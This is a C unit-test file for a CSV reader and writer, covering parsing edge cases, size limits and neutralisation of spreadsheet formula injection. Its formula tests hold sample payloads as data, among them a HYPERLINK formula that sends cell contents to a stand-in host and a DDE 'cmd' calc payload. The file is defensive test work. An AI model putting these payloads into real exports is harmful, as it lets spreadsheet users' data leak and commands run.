/* test-csv.c - RFC 4180 reader and writer. */
#include <stdlib.h>
#include <string.h>

#include "cimic/formats.h"
#include "tap.h"

struct csv_case {
	const char *name;
	const char *in;
	const char *want;     /* records joined: fields by '|', records by '/' */
	int want_line;        /* error line, or 0 when it must parse */
};

static const struct csv_case csv_cases[] = {
	{ "simple LF", "a,b,c\n1,2,3\n", "a|b|c/1|2|3", 0 },
	{ "CRLF, no final newline", "a,b\r\n1,2", "a|b/1|2", 0 },
	{ "lone CR", "a\rb\r", "a/b", 0 },
	{ "BOM skipped", "\xEF\xBB\xBFx,y\n", "x|y", 0 },
	{ "quoted comma and quote", "\"a,b\",\"say \"\"hi\"\"\"\n", "a,b|say \"hi\"", 0 },
	{ "embedded newline", "\"Line 1\nLine 2\r\nLine 3\"\r\n", "Line 1\nLine 2\nLine 3", 0 },
	{ "empty fields", ",,\n", "||", 0 },
	{ "quote inside unquoted field", "5\" pipe,x\n", "5\" pipe|x", 0 },
	{ "blank after comma kept", "a, b\n", "a| b", 0 },
	{ "Cyrillic", "Київ,Слов'янськ\n", "Київ|Слов'янськ", 0 },
	{ "empty quoted", "\"\",x\n", "|x", 0 },
	{ "unterminated quote", "a,b\n\"open,\nmore\n", NULL, 2 },
	{ "text after closing quote", "a\n\"x\"y,z\n", NULL, 2 },
	{ "NUL byte", "a\nb\0c\n", NULL, 2 },
};

static char *
csv_join(const char *in, size_t len, int *err_line)
{
	struct csv_reader r;
	struct csv_record rec;
	struct cimic_error err;
	struct buf out;
	int got;
	char *s;

	buf_init(&out);
	csv_reader_init(&r, in, len);
	*err_line = 0;
	while ((got = csv_read(&r, &rec, &err)) > 0) {
		if (out.len)
			buf_addc(&out, '/');
		for (size_t i = 0; i < rec.n; i++) {
			if (i)
				buf_addc(&out, '|');
			buf_adds(&out, rec.fields[i]);
		}
		csv_record_finish(&rec);
	}
	if (got < 0) {
		*err_line = atoi(err.msg + 5);
		is_int(err.code, CIMIC_EDATA, "error is CIMIC_EDATA: %s", err.msg);
		ok(strncmp(err.msg, "line ", 5) == 0 && strchr(err.msg, '\n') == NULL,
		   "one line naming the line: %s", err.msg);
	}
	s = util_strdup(buf_cstr(&out));
	buf_finish(&out);
	return s;
}

static void
test_cases(void)
{
	for (size_t i = 0; i < sizeof csv_cases / sizeof csv_cases[0]; i++) {
		const struct csv_case *c = &csv_cases[i];
		size_t len = strlen(c->in);
		int line;
		char *got;

		if (strcmp(c->name, "NUL byte") == 0)
			len = 8;
		got = csv_join(c->in, len, &line);
		if (c->want)
			is_str(got, c->want, "%s", c->name);
		else
			is_int(line, c->want_line, "%s: error on line %d", c->name, c->want_line);
		free(got);
	}
}

static void
test_writer_round_trip(void)
{
	const char *fields[] = { "plain", "a,b", "say \"hi\"", "two\nlines", " edge ", "", NULL,
				 "Слов’янськ" };
	size_t n = sizeof fields / sizeof fields[0];
	struct csv_reader r;
	struct csv_record rec;
	struct cimic_error err;
	struct buf b;

	buf_init(&b);
	csv_write_record(&b, fields, n);
	is_str(buf_cstr(&b), "plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\" edge \",,,Слов’янськ\r\n",
	       "writer quotes only what needs it and ends in CRLF");
	csv_reader_init(&r, (const char *)b.data, b.len);
	is_int(csv_read(&r, &rec, &err), 1, "written record reads back");
	is_int(rec.n, n, "same number of fields");
	for (size_t i = 0; i < n && i < rec.n; i++)
		is_str(rec.fields[i], fields[i] ? fields[i] : "", "field %zu round trips", i);
	csv_record_finish(&rec);
	is_int(csv_read(&r, &rec, &err), 0, "then end of input");
	buf_finish(&b);
}

static void
test_limits(void)
{
	struct csv_reader r;
	struct csv_record rec;
	struct cimic_error err;
	struct buf b;
	int got;

	buf_init(&b);
	buf_adds(&b, "ok\n");
	for (int i = 0; i < FORMATS_MAX_COLUMNS + 1; i++)
		buf_adds(&b, "x,");
	buf_adds(&b, "\n");
	csv_reader_init(&r, (const char *)b.data, b.len);
	csv_read(&r, &rec, &err);
	csv_record_finish(&rec);
	got = csv_read(&r, &rec, &err);
	is_int(got, -1, "too many fields refused");
	is_str(err.msg, "line 2: more than 256 fields in a record", "with a line number");

	b.len = 0;
	buf_addc(&b, '"');
	for (unsigned i = 0; i < FORMATS_MAX_FIELD + 10; i++)
		buf_addc(&b, 'a');
	buf_addc(&b, '"');
	csv_reader_init(&r, (const char *)b.data, b.len);
	is_int(csv_read(&r, &rec, &err), -1, "field over the limit refused: %s", err.msg);
	buf_finish(&b);
}

/* What a spreadsheet would run: = + - @ TAB CR (and LF, see formats.h) first. */
static bool
starts_as_formula(const char *s)
{
	return s != NULL && s[0] != '\0' && strchr("=+-@\t\r\n", s[0]) != NULL;
}

/* Formula injection: what is written, and that reading it back gives the text again. */
static void
test_formula(void)
{
	static const struct { const char *text, *written; } cases[] = {
		{ "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")" },
		{ "@SUM(A1:A9)", "'@SUM(A1:A9)" },
		{ "+1", "'+1" },
		{ "-1", "'-1" },
		{ "+380 67 123 4567", "'+380 67 123 4567" },
		{ "\tcmd", "'\tcmd" },
		{ "\rcmd", "'\rcmd" },
		{ "\nline", "'\nline" },
		{ "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0" },
		{ "'=already quoted", "''=already quoted" },
		{ "''@x", "'''@x" },
		{ "'quoted'", "'quoted'" },
		{ "'", "'" },
		{ "''", "''" },
		{ "a=b", "a=b" },
		{ " =1", " =1" },
		{ "", "" },
	};

	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		char *w = csv_neutralise(cases[i].text);
		is_str(w, cases[i].written, "case %zu neutralised", i);
		ok(w && !starts_as_formula(w), "case %zu: the written cell does not start as a formula", i);
		is_str(csv_unneutralise(w), cases[i].text, "case %zu read back exactly", i);
		free(w);
	}
	/* through the CSV writer and reader, quotes and all */
	{
		struct buf b;
		struct csv_reader r;
		struct csv_record rec;
		struct cimic_error err;
		char *cells[sizeof cases / sizeof cases[0]];
		size_t n = sizeof cases / sizeof cases[0];
		bool same = true;

		buf_init(&b);
		for (size_t i = 0; i < n; i++)
			cells[i] = csv_neutralise(cases[i].text);
		csv_write_record(&b, (const char *const *)cells, n);
		csv_reader_init(&r, (const char *)b.data, b.len);
		is_int(csv_read(&r, &rec, &err), 1, "the neutralised row reads back");
		is_int(rec.n, n, "with every field");
		for (size_t i = 0; i < n && i < rec.n; i++) {
			/* CSV itself reads a line break in a field, CR or CRLF, as LF */
			char *want = util_strdup(cases[i].text);
			for (char *p = want; *p; p++)
				*p = *p == '\r' ? '\n' : *p;
			same = same && strcmp(csv_unneutralise(rec.fields[i]), want) == 0;
			free(want);
		}
		ok(same, "every field is the original text again (CR read as LF, as CSV does)");
		csv_record_finish(&rec);
		for (size_t i = 0; i < n; i++)
			free(cells[i]);
		buf_finish(&b);
	}
}

int
main(void)
{
	test_cases();
	test_writer_round_trip();
	test_limits();
	test_formula();
	return done_testing();
}
